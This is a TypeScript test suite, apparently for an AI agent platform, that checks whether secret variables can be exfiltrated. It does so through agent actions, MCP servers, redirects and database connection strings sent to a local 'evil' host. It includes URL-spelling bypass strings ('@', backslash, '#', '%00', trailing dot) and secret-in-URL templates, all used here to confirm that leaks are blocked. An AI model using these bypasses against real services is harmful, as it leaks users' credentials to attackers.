import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';
import { after, test } from 'node:test';
import { scriptedApp } from '../../../test/support/scripted-app.ts';
import { scriptedMcp } from '../mcp/testing.ts';

/** Everything that a host was sent, as one text. */
async function listeningHost(redirect?: (path: string) => { status: number; location: string } | undefined) {
  const got: string[] = [];
  const server = createServer(async (request, response) => {
    got.push(JSON.stringify([request.method, request.url, request.headers, await text(request)]));
    const away = redirect?.(request.url ?? '/');
    if (away) return void response.writeHead(away.status, { location: away.location }).end();
    response.writeHead(200, { 'content-type': 'application/json' }).end('{"ok":true}');
  });
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  after(() => void server.close());
  const { port } = server.address() as AddressInfo;
  return { got, port, url: `http://127.0.0.1:${port}` };
}

const evil = await listeningHost();
const good = await listeningHost((path) => {
  const status = Number(/^\/away\/(\d+)/.exec(path)?.[1]);
  return status ? { status, location: `${evil.url}/caught` } : undefined;
});
const secret = 'sk-destination-0123456789abcdef';
const wasSent = ({ got }: { got: string[] }) => got.some((line) => line.includes(secret));

const app = await scriptedApp({
  web_allow: ['127.0.0.1', 'localhost'],
  variable_values: { ATRIUM_VAR_BOUND: `${secret}-env` },
});
const { server: model, name: account } = await app.provider();
const { id: workspace_id, key: admin } = await app.workspace();
const call = async (key: string, method: string, path: string, body?: unknown) => app.call(method, path, body, { key });
const ok = async (...request: Parameters<typeof call>) => {
  const answer = await call(...request);
  assert.equal(answer.status, 200, answer.text);
  return answer.json;
};
const keyWith = async (...permissions: string[]): Promise<string> =>
  (await app.call('POST', `/v1/admin/groups/${workspace_id}/api-keys`, { name: 'weak', permissions })).json.value;
const runner = await keyWith('agents_run');
const editor = await keyWith('agents_run', 'agents_edit');

let count = 0;
const variable = async (allowed_hosts?: string[], inline_value = secret) => {
  const name = `S${++count}`;
  const { id } = await ok(admin, 'POST', '/v1/variables', { name, inline_value, is_secret: true, allowed_hosts });
  return { id, name };
};
const sending = (name: string, to: string, more: object = {}) => ({
  ...{ name: 'send', method: 'POST', url: `${to}/x`, headers: { authorization: `Bearer {{secret.${name}}}` } },
  ...more,
});
const settings = (own: object) => ({
  ...{ model: [`${account}/one`], pii_anonimization: [], max_retries_per_model: 0, variables_enabled: true, ...own },
});
const agent = async (definition: object) =>
  (await ok(admin, 'POST', '/v1/agents', { name: `a${++count}`, definition: settings(definition) })).id as string;
const open = (key: string, agent_id: string, body: object = {}) =>
  call(key, 'POST', `/v1/conversations?assistant_id=${agent_id}`, { name: 'test', ...body });

/** Has the model call a tool, and says what the model read of it. */
async function callTool(key: string, conversation_id: string, name = 'action_send', input: object = {}) {
  evil.got.length = 0;
  good.got.length = 0;
  const before = model.requests.length;
  model.reply({ tool_calls: [{ id: 'c1', name, input }] }, { text: 'Done' });
  const answer = await call(key, 'POST', `/v1/conversations/${conversation_id}/stream?format=ui`, { content: 'Go' });
  assert.equal(answer.status, 200, answer.text);
  const said = model.requests.slice(before).map(({ body }) => JSON.stringify(body.messages));
  assert.ok(!said.join('').includes(secret), 'a model read the secret');
  return { answer, said: said.at(-1) ?? '' };
}
async function callInNew(key: string, agent_id: string, body: object = {}) {
  const made = await open(key, agent_id, body);
  assert.equal(made.status, 200, made.text);
  return callTool(key, made.json.id);
}

test('a caller with agents_run alone uses the secrets of actions that a holder of variables_read saved', async () => {
  const { id, name } = await variable();
  const agent_id = await agent({ variables: [id], actions: [sending(name, good.url)] });
  await callInNew(runner, agent_id);
  assert.equal(wasSent(good), true);
});

for (const [who, key] of [
  ['agents_run', runner],
  ['agents_run and agents_edit', editor],
] as const) {
  test(`a key with ${who} can not send a secret to a host of its own by an action on a conversation`, async () => {
    const { id, name } = await variable();
    const agent_id = await agent({ variables: [id], actions: [sending(name, good.url)] });
    for (const own of [
      { actions: [sending(name, evil.url)] },
      { tools: [{ type: 'action', ...sending(name, evil.url) }], actions: [] },
      { actions: [sending(name, evil.url, { url: `${evil.url}/{{secret.${name}}}`, headers: {} })] },
      { actions: [sending(name, evil.url, { headers: {}, body: { it: `{{secret.${name}}}` } })] },
      { variables: [id], actions: [sending(name, evil.url)] },
    ]) {
      const made = await open(key, agent_id, { settings: own });
      if (made.status === 200) await callTool(key, made.json.id);
      else assert.equal(made.status, 403, made.text);
      assert.equal(wasSent(evil), false, 'sent by create');
      const { id: conversation_id } = (await open(key, agent_id)).json;
      const changed = await call(key, 'PATCH', `/v1/conversations/${conversation_id}`, { settings: own });
      await callTool(key, conversation_id);
      assert.equal(wasSent(evil), false, 'sent by patch');
      // Nor when a holder of the permission is the one who talks in it.
      if (changed.status === 200) await callTool(admin, conversation_id);
      assert.equal(wasSent(evil), false, 'sent for the holder');
    }
  });

  test(`a key with ${who} can not send a secret to an MCP server of its own`, async () => {
    const { id, name } = await variable();
    const agent_id = await agent({ variables: [id] });
    const own = [{ name: 'mine', url: `${evil.url}/mcp`, headers: { authorization: `{{secret.${name}}}` } }];
    for (const mcp_servers of [own, [{ name: 'mine', url: `${evil.url}/{{secret.${name}}}` }]]) {
      const made = await open(key, agent_id, { settings: { mcp_servers } });
      if (made.status === 200) await callTool(key, made.json.id, 'mcp_mine_unavailable');
      else assert.equal(made.status, 403, made.text);
      assert.equal(wasSent(evil), false);
    }
  });
}

/** Settings as they are stored when their saver lacked variables_read: before the settings themselves were refused. */
const restricted = ['actions', 'tools', 'mcp_servers', 'databases'];
async function storeRestricted(conversation_id: string, own: object) {
  const change = 'update conversations set settings = $2, restricted_settings = $3 where id = $1';
  await app.query(change, [conversation_id, JSON.stringify(own), restricted]);
}
async function storeRestrictedVersion(agent_id: string, own: object) {
  await app.query(
    `update agent_versions set definition = (definition::jsonb || $2::jsonb)::text, restricted_settings = $3
     where id = (select published_version_id from agents where id = $1)`,
    [agent_id, JSON.stringify(own), restricted],
  );
}

test('a secret without hosts is not filled into settings that a weaker caller has stored, and the error says why', async () => {
  const { id, name } = await variable();
  const agent_id = await agent({ variables: [id], actions: [sending(name, good.url)] });
  for (const own of [
    { actions: [sending(name, evil.url)] },
    { tools: [{ type: 'action', ...sending(name, evil.url) }], actions: [] },
  ])
    for (const key of [runner, editor, admin]) {
      const { id: conversation_id } = (await open(key, agent_id)).json;
      await storeRestricted(conversation_id, own);
      const { said } = await callTool(key, conversation_id);
      assert.equal(wasSent(evil), false);
      assert.match(said, new RegExp(`${name} has no allowed_hosts.*variables_read`));
    }
  const mcp_servers = [{ name: 'mine', url: `${evil.url}/mcp`, headers: { authorization: `{{secret.${name}}}` } }];
  const { id: conversation_id } = (await open(runner, agent_id)).json;
  await storeRestricted(conversation_id, { mcp_servers });
  await callTool(runner, conversation_id, 'mcp_mine_unavailable');
  assert.equal(wasSent(evil), false);
});

test('an action that a key without variables_read saves with the agent, its draft or a version never gets a secret', async () => {
  const { id, name } = await variable();
  const agent_id = await agent({ variables: [id], actions: [sending(name, good.url)] });
  const path = `/v1/agents/${agent_id}`;
  const definition = { actions: [sending(name, evil.url)] };
  const file = await ok(editor, 'GET', `${path}/export`);
  file.agent.definition.actions = definition.actions;
  for (const [method, where, body] of [
    ['PATCH', path, { definition }],
    ['PATCH', `${path}?preview=true`, { definition }],
    ['POST', `${path}/versions`, { definition, publish: true }],
    ['POST', '/v1/agents', { name: 'mine', definition: settings({ variables: [id], ...definition }) }],
    ['POST', '/v1/agents/import', file],
    ['POST', `/v1/agents/import?agent_id=${agent_id}`, file],
  ] as const) {
    const answer = await call(editor, method, where, body);
    assert.equal(answer.status, 403, `${where}: ${answer.text}`);
    assert.match(answer.text, /actions needs variables_read/);
  }
});

test('a version that a weaker key has saved stays without secrets until a holder saves its actions or publishes it', async () => {
  const { id, name } = await variable();
  const agent_id = await agent({ variables: [id], actions: [sending(name, good.url)] });
  const path = `/v1/agents/${agent_id}`;
  await storeRestrictedVersion(agent_id, { actions: [sending(name, evil.url)] });
  await callInNew(admin, agent_id);
  assert.equal(wasSent(evil), false, 'for a holder who talks to it');
  await ok(admin, 'PATCH', path, { definition: { temperature: 0.3 } });
  await callInNew(admin, agent_id);
  assert.equal(wasSent(evil), false, 'after a holder has changed another setting');
  await ok(editor, 'PATCH', `${path}?preview=true`, { definition: { temperature: 0.4 } });
  const preview = await open(editor, agent_id, { preview: true });
  await callTool(editor, preview.json.id);
  assert.equal(wasSent(evil), false, 'in a preview of the draft');
  const { id: version_id } = await ok(editor, 'POST', `${path}/versions`, { name: 'copy', publish: true });
  await callInNew(editor, agent_id);
  assert.equal(wasSent(evil), false, 'by a version of the draft');
  await ok(admin, 'POST', `${path}/versions/${version_id}/publish`);
  await callInNew(editor, agent_id);
  assert.equal(wasSent(evil), true, 'a holder who publishes it answers for it');
});

test('secrets keep working when a key without variables_read changes other settings, or repeats these', async () => {
  const { id, name } = await variable();
  const actions = [sending(name, good.url)];
  const agent_id = await agent({ variables: [id], actions });
  await ok(editor, 'PATCH', `/v1/agents/${agent_id}`, { definition: { temperature: 0.2, actions } });
  await callInNew(runner, agent_id);
  assert.equal(wasSent(good), true);
  const { id: conversation_id } = (await open(editor, agent_id, { settings: { temperature: 0.1 } })).json;
  await ok(editor, 'PATCH', `/v1/conversations/${conversation_id}`, { settings: { actions } });
  await callTool(editor, conversation_id);
  assert.equal(wasSent(good), true);
});

test('secrets keep working for a caller with agents_run who narrows the actions of the agent', async () => {
  const { id, name } = await variable();
  const [first, second] = [sending(name, good.url), sending(name, good.url, { name: 'other' })];
  const agent_id = await agent({ variables: [id], actions: [first, second] });
  const narrower = { settings: { actions: [first] } };
  const made = await open(runner, agent_id, narrower);
  assert.equal(made.status, 200, made.text);
  await callTool(runner, made.json.id);
  assert.equal(wasSent(good), true);
  const { id: conversation_id } = (await open(runner, agent_id)).json;
  await ok(runner, 'PATCH', `/v1/conversations/${conversation_id}`, narrower);
  await callTool(runner, conversation_id);
  assert.equal(wasSent(good), true);
});

test('a holder of variables_read who saves the same action again answers for it', async () => {
  const { id, name } = await variable();
  const agent_id = await agent({ variables: [id] });
  const { id: conversation_id } = (await open(editor, agent_id)).json;
  const own = { actions: [sending(name, good.url)] };
  await storeRestricted(conversation_id, own);
  await callTool(editor, conversation_id);
  assert.equal(wasSent(good), false);
  await ok(admin, 'PATCH', `/v1/conversations/${conversation_id}`, { settings: own });
  await callTool(editor, conversation_id);
  assert.equal(wasSent(good), true);
});

test('a secret bound to one host is refused at another, even if a holder of variables_read saved the action', async () => {
  const { id, name } = await variable(['api.example.com']);
  const agent_id = await agent({ variables: [id], actions: [sending(name, evil.url)] });
  const { said } = await callInNew(admin, agent_id);
  assert.equal(evil.got.length, 0, 'a request was made');
  assert.match(said, new RegExp(`${name} may not be sent to 127\\.0\\.0\\.1:${evil.port}`));
});

test('a bound secret is sent to its host, also where a weaker caller has stored the action, and to no other port', async () => {
  const { id, name } = await variable([`127.0.0.1:${good.port}`]);
  const agent_id = await agent({ variables: [id] });
  const { id: conversation_id } = (await open(editor, agent_id)).json;
  await storeRestricted(conversation_id, { actions: [sending(name, good.url)] });
  await callTool(editor, conversation_id);
  assert.equal(wasSent(good), true);
  await storeRestricted(conversation_id, { actions: [sending(name, evil.url)] });
  await callTool(editor, conversation_id);
  assert.equal(evil.got.length, 0, 'another port of the same address');
});

test('spellings of a host lead a bound secret nowhere else', async () => {
  const { id, name } = await variable([`localhost:${good.port}`]);
  const agent_id = await agent({ variables: [id] });
  for (const origin of [
    `http://localhost:${good.port}@127.0.0.1:${evil.port}`,
    `http://127.0.0.1:${evil.port}\\@localhost:${good.port}`,
    `http://127.0.0.1:${evil.port}#@localhost:${good.port}`,
    `http://127.0.0.1:${evil.port}?localhost:${good.port}`,
    `http://localhost.:${evil.port}`,
    `http://LOCALHOST:${evil.port}`,
    `http://localhost%00.:${evil.port}`,
  ]) {
    const made = await open(admin, agent_id, { settings: { actions: [sending(name, origin)] } });
    if (made.status === 200) await callTool(admin, made.json.id);
    assert.equal(wasSent(evil), false, origin);
  }
  await callInNew(admin, agent_id, { settings: { actions: [sending(name, `http://LOCALHOST:${good.port}`)] } });
  assert.equal(wasSent(good), true);
});

// The statuses of redirects are told apart by the driver, whose tests try each; one of each kind here.
for (const status of [302, 307])
  test(`a ${status} to another origin takes neither secret nor body along`, async () => {
    const { id, name } = await variable();
    for (const method of ['GET', 'POST', 'PUT']) {
      const body = method === 'GET' ? {} : { body: { it: `{{secret.${name}}}` } };
      const away = sending(name, good.url, { method, url: `${good.url}/away/${status}`, ...body });
      await callInNew(admin, await agent({ variables: [id], actions: [away] }));
      assert.equal(wasSent(good), true);
      assert.equal(evil.got.length, 0);
    }
  });

test('a bound secret reaches an MCP server of its host and no other', async () => {
  const mcp = await scriptedMcp();
  const { id, name } = await variable([new URL(mcp.url).host]);
  const servers = (url: string) => [{ name: 'wiki', url, headers: { authorization: `Bearer {{secret.${name}}}` } }];
  await callInNew(admin, await agent({ variables: [id], mcp_servers: servers(mcp.url) }));
  assert.ok(JSON.stringify(mcp.asked.map(({ headers }) => headers)).includes(secret));
  await callInNew(admin, await agent({ variables: [id], mcp_servers: servers(`${evil.url}/mcp`) }));
  assert.equal(evil.got.length, 0);
});

test('a database is reached by a bound connection string only at a host that the variable names', async () => {
  const dsn = `postgresql://u:${secret}@127.0.0.1:${evil.port}/d`;
  const ask = async (allowed_hosts: string[] | undefined, key: string, on: 'agent' | 'conversation') => {
    const { id, name } = await variable(allowed_hosts, dsn);
    const databases = [{ name: 'db', dsn_variable: name }];
    const agent_id = await agent({ variables: [id], ...(on === 'agent' && { databases }) });
    const made = await open(key, agent_id, on === 'agent' ? {} : { settings: { databases } });
    if (made.status !== 200) return String(made.status);
    return (await callTool(key, made.json.id, 'databases_query', { database: 'db', sql: 'select 1' })).said;
  };
  assert.match(await ask(['db.example.com'], admin, 'agent'), /may not be sent to the host of this address/);
  assert.match(await ask(['127.0.0.1'], admin, 'agent'), /did not answer/, 'it was reached, and is no database');
  assert.match(await ask(undefined, runner, 'agent'), /did not answer/, 'saved by a holder');
  assert.match(await ask(undefined, editor, 'conversation'), /^403$|has no allowed_hosts/);
});

test('secrets from the environment are bound like others', async () => {
  const name = `E${++count}`;
  const body = { name, source: 'environment', env_var_name: 'ATRIUM_VAR_BOUND', allowed_hosts: ['api.example.com'] };
  const { id } = await ok(admin, 'POST', '/v1/variables', body);
  await callInNew(admin, await agent({ variables: [id], actions: [sending(name, evil.url)] }));
  assert.equal(evil.got.length, 0);
});
